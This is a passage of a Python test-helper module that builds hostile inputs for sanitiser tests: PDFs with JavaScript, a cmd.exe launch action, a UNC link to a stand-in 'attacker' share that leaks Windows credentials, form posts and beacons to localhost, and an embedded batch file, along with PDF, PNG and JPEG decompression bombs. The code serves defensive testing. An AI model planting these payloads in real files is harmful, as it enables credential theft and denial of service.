"""Crafted hostile inputs for security tests, and an inspector for active content in PDFs.

Every generator writes one file at the path it is given and returns that path. The files are built at
test time (nothing binary is committed) and are small on disk: the point is a small input with a huge
cost (memory, time, a blocked read, a network fetch, code that runs). Where a library would refuse to
produce the malformed thing, the bytes or the XML are written by hand.

Each docstring says what the file is and what a naive reader does with it; the figures were measured
with pypdf 7.1.1, openpyxl 3.1.5, Pillow 13, PyYAML 6.0 and Python 3.11 (expat 2.5) under a 1 GiB
address-space limit. Never open the bombs in the test process itself without such a limit: run the
code under test in a subprocess with ``resource.setrlimit(RLIMIT_AS, ...)`` and a timeout.

``active_content(pdf)`` walks every object of a PDF (current, superseded and orphaned copies alike)
and lists what could run, open, fetch or carry a file; a clean PDF gives ``[]``.

This module imports nothing from ``pipeline``.
"""

from __future__ import annotations

import csv
import io
import os
import random
import re
import struct
import zlib
from collections.abc import Iterable, Iterator, Sequence
from pathlib import Path
from xml.sax.saxutils import escape

# --------------------------------------------------------------------------------------------------
# PDF: a minimal object writer
# --------------------------------------------------------------------------------------------------

Body = bytes | Iterable[bytes]


class _Pdf:
    """Numbered PDF objects written by hand, so that nothing is checked, repaired or reordered.

    A body is the bytes between ``N 0 obj`` and ``endobj``, or an iterable of chunks for bodies too big
    to hold in memory. With ``compress=True`` every non-stream object goes into Flate object streams and
    the cross-reference table becomes a compressed xref stream (PDF 1.5): a small object then costs
    about 10 bytes.
    """

    def __init__(self) -> None:
        self.bodies: list[Body | None] = []
        self.streams: set[int] = set()

    def reserve(self) -> int:
        self.bodies.append(None)
        return len(self.bodies)

    def add(self, body: bytes) -> int:
        self.bodies.append(body)
        return len(self.bodies)

    def set(self, num: int, body: bytes) -> int:
        self.bodies[num - 1] = body
        return num

    def add_stream(self, data: bytes, entries: bytes = b"") -> int:
        num = self.add(_stream(data, entries))
        self.streams.add(num)
        return num

    def add_stream_chunks(self, length: int, chunks: Iterable[bytes], entries: bytes = b"") -> int:
        header = b"<< " + entries + b" /Length %d >>\nstream\n" % length
        num = self.add(b"")
        self.bodies[num - 1] = _chain([header], chunks, [b"\nendstream"])
        self.streams.add(num)
        return num

    def write(self, path: str | os.PathLike, root: int, *, compress: bool = False) -> Path:
        if any(body is None for body in self.bodies):
            raise ValueError("a reserved PDF object was never set")
        path = Path(path)
        with path.open("wb") as f:
            f.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
            offsets: dict[int, int] = {}
            in_stream: dict[int, tuple[int, int]] = {}
            if compress:
                small = [n for n in range(1, len(self.bodies) + 1) if n not in self.streams]
                for start in range(0, len(small), 1000):
                    group = small[start:start + 1000]
                    objstm = len(self.bodies) + 1 + start // 1000
                    for index, num in enumerate(group):
                        in_stream[num] = (objstm, index)
            for num, body in enumerate(self.bodies, 1):
                if num in in_stream:
                    continue
                offsets[num] = f.tell()
                f.write(b"%d 0 obj\n" % num)
                for chunk in [body] if isinstance(body, bytes) else body:
                    f.write(chunk)
                f.write(b"\nendobj\n")
            trailer = b"/Root %d 0 R" % root
            if not compress:
                size = len(self.bodies) + 1
                xref = f.tell()
                f.write(b"xref\n0 %d\n0000000000 65535 f\r\n" % size)
                f.write(b"".join(b"%010d 00000 n\r\n" % offsets[n] for n in range(1, size)))
                f.write(b"trailer\n<< /Size %d %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, xref))
                return path
            groups: dict[int, list[int]] = {}
            for num, (objstm, _) in in_stream.items():
                groups.setdefault(objstm, []).append(num)
            for objstm, members in sorted(groups.items()):
                head, data = [], []
                position = 0
                for num in members:
                    body = self.bodies[num - 1]
                    assert isinstance(body, bytes)
                    head.append(b"%d %d" % (num, position))
                    data.append(body)
                    position += len(body) + 1
                header = b" ".join(head) + b"\n"
                payload = zlib.compress(header + b"\n".join(data) + b"\n", 9)
                offsets[objstm] = f.tell()
                f.write(b"%d 0 obj\n" % objstm)
                f.write(_stream(payload, b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode" % (
                    len(members), len(header))))
                f.write(b"\nendobj\n")
            xref_num = max([len(self.bodies), *groups]) + 1
            offsets[xref_num] = f.tell()
            rows = [struct.pack(">BIH", 0, 0, 65535)]
            for num in range(1, xref_num + 1):
                if num in in_stream:
                    rows.append(struct.pack(">BIH", 2, *in_stream[num]))
                else:
                    rows.append(struct.pack(">BIH", 1, offsets[num], 0))
            entries = b"/Type /XRef /Size %d /W [1 4 2] /Filter /FlateDecode %s" % (xref_num + 1, trailer)
            f.write(b"%d 0 obj\n" % xref_num)
            f.write(_stream(zlib.compress(b"".join(rows), 9), entries))
            f.write(b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[xref_num])
        return path


def _stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< " + entries + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def _chain(*parts: Iterable[bytes]) -> Iterator[bytes]:
    for part in parts:
        yield from part


def _pdf_text(text: str) -> bytes:
    """A PDF literal string (Latin-1 text only)."""
    escaped = text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
    return b"(" + escaped.encode("latin-1") + b")"


def _page_content(label: str) -> bytes:
    """A filled red rectangle and ``label`` in 24 pt Helvetica (font resource /F1)."""
    return (b"q 0.85 0.1 0.1 rg 72 560 300 120 re f Q\n"
            b"BT /F1 24 Tf 72 700 Td " + _pdf_text(label) + b" Tj ET\n")


_HELVETICA = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"


def _simple_pdf(labels: Sequence[str]) -> _Pdf:
    """Catalog (object 1) and one page per label, each drawing ``_page_content(label)``."""
    pdf = _Pdf()
    catalog, pages = pdf.reserve(), pdf.reserve()
    font = pdf.add(_HELVETICA)
    kids = []
    for label in labels:
        content = pdf.add_stream(_page_content(label))
        kids.append(pdf.add(b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 612 792] "
                            b"/Resources << /Font << /F1 %d 0 R >> >> /Contents %d 0 R >>" % (pages, font, content)))
    pdf.set(pages, b"<< /Type /Pages /Count %d /Kids [%s] >>" % (len(kids), b" ".join(b"%d 0 R" % k for k in kids)))
    pdf.set(catalog, b"<< /Type /Catalog /Pages %d 0 R >>" % pages)
    return pdf


def plain_pdf(path: str | os.PathLike, pages: int = 1) -> Path:
    """A harmless PDF: ``pages`` pages each showing a red rectangle and "EVIDENCE PAGE n" in Helvetica.

    The control case for the hostile PDFs: every reader opens it and ``active_content`` gives ``[]``.
    """
    return _simple_pdf([f"EVIDENCE PAGE {n}" for n in range(1, pages + 1)]).write(path, 1)


# --------------------------------------------------------------------------------------------------
# PDF generators
# --------------------------------------------------------------------------------------------------

#: The kinds of finding (see ``active_content``) that ``pdf_with_javascript`` plants; each is found.
JAVASCRIPT_PDF_FINDINGS = frozenset({
    "/OpenAction", "/JavaScript", "/JS", "/AA", "/S /JavaScript", "/S /Launch", "/S /URI", "/S /GoToR",
    "/S /SubmitForm", "/Subtype /FileAttachment", "/EmbeddedFiles", "/EmbeddedFile", "/EF", "/XFA",
})


def pdf_with_javascript(path: str | os.PathLike, *, compress: bool = False) -> Path:
    """A valid two-page PDF carrying every common kind of active content.

    Page 1 draws a red rectangle and "EVIDENCE PAGE 1" (Type1 Helvetica), page 2 "EVIDENCE PAGE 2";
    a sanitiser must keep both visible pages. Planted (kinds as ``active_content`` names them, all in
    ``JAVASCRIPT_PDF_FINDINGS``):

    - catalog ``/OpenAction`` -> JavaScript action (``/S /JavaScript``, ``/JS``);
    - catalog ``/Names /JavaScript`` name tree -> a document-level JavaScript action;
    - catalog ``/Names /EmbeddedFiles`` -> file spec with ``/EF`` -> ``/EmbeddedFile`` stream (payload.bat);
    - page 1 ``/AA`` (open ``/O`` and close ``/C``) -> JavaScript actions;
    - Link annotations with ``/S /JavaScript``, ``/S /Launch`` (``cmd.exe /c calc``, also under ``/Win``),
      ``/S /URI`` (http://127.0.0.1:9/beacon), ``/S /GoToR`` (a UNC path ``\\\\attacker\\share\\remote.pdf``,
      which leaks Windows credentials) and ``/S /SubmitForm`` (posts the form to http://127.0.0.1:9/collect);
    - a ``/Subtype /FileAttachment`` annotation with its own embedded file (invoice.pdf.exe);
    - ``/AcroForm`` with a text field whose ``/AA`` has keystroke/format JavaScript, and an ``/XFA`` packet.

    With ``compress=True`` the non-stream objects sit in object streams, so a byte-level grep for
    ``/JavaScript``, ``/JS``, ``/AA``, ``/OpenAction`` or ``/Launch`` finds nothing. poppler's ``pdfinfo``
    reports "JavaScript: yes" and "Form: XFA". A naive reader: pypdf reads both pages without complaint;
    ``PdfWriter(clone_from=...)`` carries every planted kind into its output, ``writer.append(reader)``
    all but ``/OpenAction`` and the catalog name trees, and ``writer.add_page(page)`` all the page-level
    ones (annotations, actions, attachments), even if the page's ``/Annots`` is deleted afterwards (the
    copied objects stay in the file, unreferenced).
    """
    pdf = _Pdf()
    catalog, pages, page1 = pdf.reserve(), pdf.reserve(), pdf.reserve()
    font = pdf.add(_HELVETICA)
    content1 = pdf.add_stream(_page_content("EVIDENCE PAGE 1"))
    content2 = pdf.add_stream(_page_content("EVIDENCE PAGE 2"))
    page2 = pdf.add(b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 %d 0 R >> >> "
                    b"/Contents %d 0 R >>" % (pages, font, content2))

    def js(code: str) -> bytes:
        return b"<< /Type /Action /S /JavaScript /JS " + _pdf_text(code) + b" >>"

    def embedded(name: str, data: bytes) -> int:
        stream = pdf.add_stream(data, b"/Type /EmbeddedFile /Subtype /application#2Foctet-stream "
                                      b"/Params << /Size %d >>" % len(data))
        return pdf.add(b"<< /Type /Filespec /F %s /UF %s /EF << /F %d 0 R >> >>" % (
            _pdf_text(name), _pdf_text(name), stream))

    open_action = pdf.add(js("app.alert('OpenAction ran');"))
    named_js = pdf.add(js("app.alert('document-level script ran');"))
    bat = embedded("payload.bat", b"@echo off\r\necho pwned > %TEMP%\\pwned.txt\r\n")
    exe = embedded("invoice.pdf.exe", b"MZ\x90\x00" + b"\x00" * 60 + b"not really a program")

    def link(y: int, action: bytes) -> int:
        return pdf.add(b"<< /Type /Annot /Subtype /Link /Rect [72 %d 300 %d] /Border [0 0 0] /A %s >>" % (
            y, y + 20, action))

    annots = [
        link(500, js("app.launchURL('http://127.0.0.1:9/js', true);")),
        link(470, b"<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) /O (open) >> /NewWindow true >>"),
        link(440, b"<< /S /URI /URI (http://127.0.0.1:9/beacon) >>"),
        link(410, rb"<< /S /GoToR /F << /Type /Filespec /F (\\\\attacker\\share\\remote.pdf) >> /D [0 /Fit] >>"),
        link(380, b"<< /S /SubmitForm /F << /FS /URL /F (http://127.0.0.1:9/collect) >> /Flags 4 >>"),
        pdf.add(b"<< /Type /Annot /Subtype /FileAttachment /Rect [320 500 340 520] /Name /PushPin "
                b"/Contents (invoice) /FS %d 0 R >>" % exe),
    ]
    field = pdf.add(b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (amount) /V (0) /Rect [320 440 500 460] "
                    b"/P %d 0 R /DA (/Helv 10 Tf 0 g) /AA << /K %s /F %s >> >>" % (
                        page1, js("event.rc = true; app.alert('keystroke');"), js("app.alert('format');")))
    annots.append(field)
    xfa = pdf.add_stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script>app.alert(1)</script>'
                         b"</template></xdp:xdp>")
    pdf.set(page1, b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 %d 0 R >> >> "
                   b"/Contents %d 0 R /Annots [%s] /AA << /O %s /C %s >> >>" % (
                       pages, font, content1, b" ".join(b"%d 0 R" % a for a in annots),
                       js("app.alert('page opened');"), js("app.alert('page closed');")))
    pdf.set(pages, b"<< /Type /Pages /Count 2 /Kids [%d 0 R %d 0 R] >>" % (page1, page2))
    pdf.set(catalog, b"<< /Type /Catalog /Pages %d 0 R /OpenAction %d 0 R "
                     b"/Names << /JavaScript << /Names [(init) %d 0 R] >> "
                     b"/EmbeddedFiles << /Names [(payload.bat) %d 0 R] >> >> "
                     b"/AcroForm << /Fields [%d 0 R] /DA (/Helv 0 Tf 0 g) /DR << /Font << /Helv %d 0 R >> >> "
                     b"/XFA [(template) %d 0 R] >> >>" % (pages, open_action, named_js, bat, field, font, xfa))
    return pdf.write(path, catalog, compress=compress)


def pdf_with_filled_form(path: str | os.PathLike) -> Path:
    """A one-page form whose visible content is partly in annotations, some of which also act.

    The page draws "EVIDENCE PAGE 1"; a text field (a Widget annotation) shows "FILLED 12345" through
    its normal appearance stream and carries keystroke JavaScript (``/AA``) and a ``/A`` JavaScript
    action; a stamp annotation shows "STAMP OK"; a hidden annotation (flag 2) would show "HIDDEN";
    a Link with a URI action shows nothing. The catalog has an ``/AcroForm`` listing the field. A
    sanitiser that keeps what the page shows must keep "FILLED 12345" and "STAMP OK" (drawn into the
    page), drop "HIDDEN", and keep none of the actions. A naive one that drops annotations loses the
    filled-in value; one that keeps them keeps the scripts.
    """
    pdf = _Pdf()
    catalog, pages, page = pdf.reserve(), pdf.reserve(), pdf.reserve()
    font = pdf.add(_HELVETICA)
    content = pdf.add_stream(_page_content("EVIDENCE PAGE 1"))

    def appearance(text: str, width: int = 200) -> int:
        return pdf.add_stream(b"BT /F1 12 Tf 2 6 Td " + _pdf_text(text) + b" Tj ET",
                              b"/Type /XObject /Subtype /Form /BBox [0 0 %d 20] /Resources << /Font << /F1 %d 0 R >> >>"
                              % (width, font))

    js = b"<< /Type /Action /S /JavaScript /JS (app.alert\\('field'\\);) >>"
    field = pdf.add(b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (amount) /V (FILLED 12345) /F 4 "
                    b"/Rect [72 400 272 420] /P %d 0 R /AP << /N %d 0 R >> /A %s /AA << /K %s >> >>"
                    % (page, appearance("FILLED 12345"), js, js))
    stamp = pdf.add(b"<< /Type /Annot /Subtype /Stamp /F 4 /Rect [72 300 272 320] /AP << /N %d 0 R >> >>"
                    % appearance("STAMP OK"))
    hidden = pdf.add(b"<< /Type /Annot /Subtype /Stamp /F 2 /Rect [72 250 272 270] /AP << /N %d 0 R >> >>"
                     % appearance("HIDDEN"))
    link = pdf.add(b"<< /Type /Annot /Subtype /Link /Rect [72 200 272 220] /A << /S /URI /URI (http://127.0.0.1:9/) >> >>")
    pdf.set(page, b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 %d 0 R >> >> "
                  b"/Contents %d 0 R /Annots [%d 0 R %d 0 R %d 0 R %d 0 R] >>" % (pages, font, content, field, stamp, hidden,
                                                                                 link))
    pdf.set(pages, b"<< /Type /Pages /Count 1 /Kids [%d 0 R] >>" % page)
    pdf.set(catalog, b"<< /Type /Catalog /Pages %d 0 R /AcroForm << /Fields [%d 0 R] >> >>" % (pages, field))
    return pdf.write(path, catalog)


def pdf_deep_page_tree(path: str | os.PathLike, depth: int = 3000) -> Path:
    """A PDF whose page tree is ``depth`` /Pages nodes deep (each with one kid) above a single page.

    About 300 KB at depth 3000. A naive reader recurses once per level. pypdf 7.1.1 caps the depth at 100:
    ``len(PdfReader(path).pages)`` raises ``pypdf.errors.LimitReachedError`` ("Maximum page tree depth
    reached: 101 > 100.") for any depth over 100, at once and without a RecursionError; at depth 100 it
    reads the page. poppler (``pdfinfo``) reads it as one page. A reader without a cap walks into
    Python's recursion limit (RecursionError) or, in C, the stack.
    """
    pdf = _Pdf()
    catalog = pdf.reserve()
    font = pdf.add(_HELVETICA)
    nodes = [pdf.reserve() for _ in range(depth)]
    content = pdf.add_stream(_page_content("EVIDENCE PAGE 1"))
    page = pdf.add(b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 %d 0 R >> >> "
                   b"/Contents %d 0 R >>" % (nodes[-1], font, content))
    for level, node in enumerate(nodes):
        kid = nodes[level + 1] if level + 1 < depth else page
        parent = b" /Parent %d 0 R" % nodes[level - 1] if level else b""
        pdf.set(node, b"<< /Type /Pages /Count 1 /Kids [%d 0 R]%s >>" % (kid, parent))
    pdf.set(catalog, b"<< /Type /Catalog /Pages %d 0 R >>" % nodes[0])
    return pdf.write(path, catalog)


def pdf_many_pages(path: str | os.PathLike, pages: int, *, compress: bool = True) -> Path:
    """A cheap PDF of ``pages`` pages that all share one content stream (for page-count caps).

    The page objects sit in Flate object streams under a balanced page tree (fan-out 256): about 10 bytes
    a page, so 50,000 pages are 0.5 MB (``compress=False`` writes plain objects, about 100 bytes a page).
    Every page shows "EVIDENCE PAGE" and a red rectangle. A naive reader: pypdf 7.1.1 counts pages plus
    /Pages nodes against ``page_tree_maximum_entries`` (100,000): ``len(PdfReader(path).pages)`` reads
    50,000 pages in about 4 s and, from about 99,600 pages, raises ``pypdf.errors.LimitReachedError``
    ("Maximum page tree entry limit reached") after some 10 s of work. Anything done per page (text
    extraction, rendering, merging into a packet, LibreOffice or Ghostscript) costs that many times.
    """
    if pages < 1:
        raise ValueError("pages must be at least 1")
    pdf = _Pdf()
    catalog = pdf.reserve()
    font = pdf.add(_HELVETICA)
    content = pdf.add_stream(_page_content("EVIDENCE PAGE"))
    level = [pdf.add(b"") for _ in range(pages)]
    counts = [1] * pages
    leaves = True
    while len(level) > 1 or leaves:
        parents, parent_counts = [], []
        for start in range(0, len(level), 256):
            kids, kid_counts = level[start:start + 256], counts[start:start + 256]
            node = pdf.reserve()
            parents.append(node)
            parent_counts.append(sum(kid_counts))
            for kid in kids:
                if leaves:
                    pdf.set(kid, b"<< /Type /Page /Parent %d 0 R /Contents %d 0 R >>" % (node, content))
                else:
                    body = pdf.bodies[kid - 1]
                    assert isinstance(body, bytes)
                    pdf.set(kid, body[:-3] + b" /Parent %d 0 R >>" % node)
            pdf.set(node, b"<< /Type /Pages /Count %d /Kids [%s] >>" % (
                sum(kid_counts), b" ".join(b"%d 0 R" % k for k in kids)))
        level, counts, leaves = parents, parent_counts, False
    root = level[0]
    body = pdf.bodies[root - 1]
    assert isinstance(body, bytes)
    pdf.set(root, body[:-3] + b" /MediaBox [0 0 612 792] /Resources << /Font << /F1 %d 0 R >> >> >>" % font)
    pdf.set(catalog, b"<< /Type /Catalog /Pages %d 0 R >>" % root)
    return pdf.write(path, catalog, compress=compress)


def pdf_big(path: str | os.PathLike, megabytes: float) -> Path:
    """A valid one-page PDF of about ``megabytes`` MB (10**6 bytes), for byte caps.

    The bulk is one uncompressed stream of random (incompressible) bytes hung off the catalog under
    ``/PieceInfo`` (private data that viewers ignore), so the visible page is an ordinary
    "EVIDENCE PAGE 1". Written in 1 MiB chunks; this is the one generator meant to exceed 3 MB.
    A naive reader: ``path.read_bytes()`` or an upload handler takes it all into memory; pypdf opens it
    lazily (a 50 MB file: ``pages[0].extract_text()`` in 0.1 s, 76 MB RSS) and reads the padding only when
    something copies every object: ``PdfWriter(clone_from=...)`` plus ``write`` holds it twice (172 MB
    RSS) and writes all 50 MB into the output.
    """
    pdf = _simple_pdf(["EVIDENCE PAGE 1"])
    length = max(0, int(megabytes * 1_000_000) - 1500)
    rng = random.Random(20261124)

    padding = pdf.add_stream_chunks(length, _random_chunks(rng, length))
    catalog = pdf.bodies[0]
    assert isinstance(catalog, bytes)
    pdf.set(1, catalog[:-3] + b" /PieceInfo << /Padding << /Private %d 0 R >> >> >>" % padding)
    return pdf.write(path, 1)


def _random_chunks(rng: random.Random, length: int) -> Iterator[bytes]:
    """`length` random bytes in 1 MiB pieces (a big stream is never held whole)."""
    left = length
    while left:
        n = min(left, 1 << 20)
        yield rng.randbytes(n)
        left -= n


def pdf_big_page_image(path: str | os.PathLike, megabytes: float) -> Path:
    """A valid one-page PDF of about ``megabytes`` MB (10**6 bytes) whose bulk the page itself draws.

    Unlike ``pdf_big`` (padding no page uses, which a sanitiser drops), the bulk here is the page's
    image XObject: one stream of random bytes declared as a DCT-encoded (JPEG) RGB image, drawn full
    page. A sanitiser that keeps the visible pages keeps all of it, so this is the file for measuring
    what a maximal row of evidence costs downstream. Viewers show a broken image (the bytes are not a
    JPEG); pypdf copies the stream without decoding it. Written in 1 MiB chunks.
    """
    pdf = _Pdf()
    catalog, pages = pdf.reserve(), pdf.reserve()
    length = max(0, int(megabytes * 1_000_000) - 1000)
    rng = random.Random(20261126)

    image = pdf.add_stream_chunks(length, _random_chunks(rng, length), b"/Type /XObject /Subtype /Image /Width 2000 /Height 2000 "
                                                    b"/ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode")
    content = pdf.add_stream(b"q 612 0 0 792 0 0 cm /Im1 Do Q\n")
    page = pdf.add(b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 612 792] /Resources << /XObject << /Im1 %d 0 R >> >> "
                   b"/Contents %d 0 R >>" % (pages, image, content))
    pdf.set(pages, b"<< /Type /Pages /Count 1 /Kids [%d 0 R] >>" % page)
    pdf.set(catalog, b"<< /Type /Catalog /Pages %d 0 R >>" % pages)
    return pdf.write(path, catalog)


def deflate_repeated(unit: bytes, count: int, tail: bytes = b"") -> bytes:
    """A zlib stream of ``unit`` repeated ``count`` times, then ``tail``, built without compressing
    it all: after a full flush a deflate block refers to nothing before it, so the block of one
    ``unit`` can be repeated as is (1 GiB of spaces: about 1 MB, in a fraction of a second)."""
    block = zlib.compressobj(9, zlib.DEFLATED, -15)
    repeated = block.compress(unit) + block.flush(zlib.Z_FULL_FLUSH)
    last = zlib.compressobj(9, zlib.DEFLATED, -15)
    ending = last.compress(tail) + last.flush()
    check = 1
    for _ in range(count):
        check = zlib.adler32(unit, check)
    check = zlib.adler32(tail, check)
    return b"\x78\xda" + repeated * count + ending + struct.pack(">I", check)


def pdf_flate_bomb(path: str | os.PathLike, inflated_mib: int = 1024, *, streams: int = 1,
                   image: bool = False) -> Path:
    """A valid one-page PDF of about 1 MB per GiB inflated whose Flate streams inflate to ``inflated_mib``
    MiB each: the page's content (spaces, then a red square), or with ``image=True`` ``streams``
    different image XObjects each declared 100 x 100 grey (their data inflates far past that).
    A naive pipeline: pikepdf's ``Page.add_overlay`` decodes the page's content whole — 1 GiB of it
    costs 2.2 GB of RSS; the images are decoded by whoever shows the page.
    """
    pdf = _Pdf()
    catalog, pages = pdf.reserve(), pdf.reserve()
    spaces = b" " * (1 << 20)
    if image:
        names = []
        for n in range(streams):
            data = deflate_repeated(spaces, inflated_mib, b"%d" % n)
            names.append(b"/Im%d %d 0 R" % (n, pdf.add_stream(data, b"/Type /XObject /Subtype /Image /Width 100 "
                                                              b"/Height 100 /ColorSpace /DeviceGray "
                                                              b"/BitsPerComponent 8 /Filter /FlateDecode")))
        content = pdf.add_stream(b"".join(b"q 100 0 0 100 %d 600 cm /Im%d Do Q\n" % (50 + 10 * n, n)
                                          for n in range(streams)))
        resources = b"<< /XObject << " + b" ".join(names) + b" >> >>"
    else:
        data = deflate_repeated(spaces, inflated_mib, b"\nq 0.85 0.1 0.1 rg 72 560 300 120 re f Q\n")
        content = pdf.add_stream(data, b"/Filter /FlateDecode")
        resources = b"<< >>"
    page = pdf.add(b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 612 792] /Resources %s /Contents %d 0 R >>"
                   % (pages, resources, content))
    pdf.set(pages, b"<< /Type /Pages /Count 1 /Kids [%d 0 R] >>" % page)
    pdf.set(catalog, b"<< /Type /Catalog /Pages %d 0 R >>" % pages)
    return pdf.write(path, catalog)


def pdf_truncated(path: str | os.PathLike, keep: float = 0.6) -> Path:
    """A valid three-page PDF cut after ``keep`` of its bytes: no xref table, no trailer, no ``%%EOF``.

    The cut falls inside an object, so the last object is incomplete. A naive reader:
    ``PdfReader(path)`` (non-strict, the default) logs "EOF marker not found", tries to rebuild the
    cross-reference table and raises ``pypdf.errors.PdfStreamError`` ("Stream has ended unexpectedly");
    ``PdfReader(path, strict=True)`` raises ``pypdf.errors.PdfReadError`` ("EOF marker not found").
    """
    path = Path(path)
    plain_pdf(path, pages=3)
    data = path.read_bytes()
    path.write_bytes(data[:int(len(data) * keep)])
    return path


#: The user password of ``pdf_encrypted``'s default file.
ENCRYPTED_PDF_PASSWORD = "secret"


def pdf_encrypted(path: str | os.PathLike, user_password: str = ENCRYPTED_PDF_PASSWORD) -> Path:
    """A one-page PDF (RC4-128, standard security handler) that needs ``user_password`` to read.

    With ``user_password=""`` it opens without a password but is still encrypted (an owner password is
    set): a common state for bank statements. A naive reader: pypdf's ``PdfReader(path).pages[0]`` raises
    ``pypdf.errors.FileNotDecryptedError`` ("File has not been decrypted"); ``decrypt(password)`` then
    gives the text. With an empty user password pypdf decrypts it silently on open and reads the page.
    """
    from pypdf import PdfReader, PdfWriter

    buffer = io.BytesIO()
    _simple_pdf(["EVIDENCE PAGE 1"]).write(path, 1)
    writer = PdfWriter(clone_from=PdfReader(path))
    writer.encrypt(user_password=user_password, owner_password="owner-" + user_password, algorithm="RC4-128")
    writer.write(buffer)
    Path(path).write_bytes(buffer.getvalue())
    return Path(path)


# --------------------------------------------------------------------------------------------------
# Images
# --------------------------------------------------------------------------------------------------


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_decompression_bomb(path: str | os.PathLike, width: int = 28_000, height: int = 28_000) -> Path:
    """A complete, valid 1-bit greyscale PNG of ``width`` x ``height`` black pixels in about 95 KB.

    28,000 x 28,000 is 784 million pixels, over twice Pillow's ``Image.MAX_IMAGE_PIXELS`` (89.5 million),
    and the IDAT really holds every row (deflate's ratio tops out near 1030:1, so 30,000 x 30,000 would
    take 109 KB). A naive reader: ``PIL.Image.open(path)`` and ``img2pdf.convert(path)`` raise
    ``PIL.Image.DecompressionBombError`` at once; with the limit switched off (``MAX_IMAGE_PIXELS = None``)
    ``load()`` takes 0.8 s and 764 MB (one byte per pixel, mode "1") and ``convert("RGB")`` 3.7 GB.
    """
    row = b"\x00" * (1 + (width + 7) // 8)  # filter byte 0, then black pixels: all zero bytes
    compressor = zlib.compressobj(9)
    idat = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    data = b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b"")
    Path(path).write_bytes(data)
    return Path(path)


def jpeg_decompression_bomb(path: str | os.PathLike, width: int = 30_000, height: int = 30_000) -> Path:
    """A 16 x 16 JPEG whose frame header (SOF0) is patched to declare ``width`` x ``height`` (< 1 KB).

    The entropy-coded data still holds only the 16 x 16 image. A naive reader: ``PIL.Image.open(path)``
    and ``img2pdf.convert(path)`` raise ``PIL.Image.DecompressionBombError`` (900 million pixels); with the
    limit switched off ``load()`` allocates the whole 2.7 GB RGB image before decoding (``MemoryError``
    under a 1 GiB limit) and, given the memory, returns it in 4 s without complaint (libjpeg pads the
    missing data).
    """
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (16, 16), (200, 30, 30)).save(buffer, "JPEG", quality=90)
    data = bytearray(buffer.getvalue())
    sof = data.find(b"\xff\xc0")
    if sof < 0:
        raise RuntimeError("Pillow wrote a JPEG without a baseline SOF0 marker")
    struct.pack_into(">HH", data, sof + 5, height, width)
    Path(path).write_bytes(bytes(data))
    return Path(path)


def tiff_frames(path: str | os.PathLike, frames: int = 2000, size: tuple[int, int] = (20, 20)) -> Path:
    """A multi-page TIFF of ``frames`` grey frames, written at ``path`` whatever its suffix says (a few
    KB: every frame's directory points to the same pixels).

    A naive reader: ``PIL.Image.open`` shows the first frame and says nothing of the rest; img2pdf makes
    a page of every frame.
    """
    width, height = size
    pixels = bytes(range(256)) * (width * height // 256 + 1)
    pixels = pixels[:width * height]
    tags = [(256, 3, width), (257, 3, height), (258, 3, 8), (259, 3, 1), (262, 3, 1), (273, 4, 8),
            (277, 3, 1), (278, 3, height), (279, 4, len(pixels))]
    directory_size = 2 + 12 * len(tags) + 4
    first = 8 + len(pixels)
    directories = []
    for n in range(frames):
        following = first + (n + 1) * directory_size if n + 1 < frames else 0
        entries = b"".join(struct.pack("<HHII", tag, kind, 1, value) if kind == 4 else
                           struct.pack("<HHIHH", tag, kind, 1, value, 0) for tag, kind, value in tags)
        directories.append(struct.pack("<H", len(tags)) + entries + struct.pack("<I", following))
    Path(path).write_bytes(b"II*\x00" + struct.pack("<I", first) + pixels + b"".join(directories))
    return Path(path)


# --------------------------------------------------------------------------------------------------
# Workbooks (.xlsx written by hand)
# --------------------------------------------------------------------------------------------------

_XML_DECLARATION = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
_MAIN_NS = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_CONTENT_TYPES = (
    _XML_DECLARATION
    + b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/xl/workbook.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    b'<Override PartName="/xl/worksheets/sheet1.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    b"%s</Types>"
)
_SHARED_STRINGS_TYPE = (
    b'<Override PartName="/xl/sharedStrings.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
)
_ROOT_RELS = (
    _XML_DECLARATION
    + b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" '
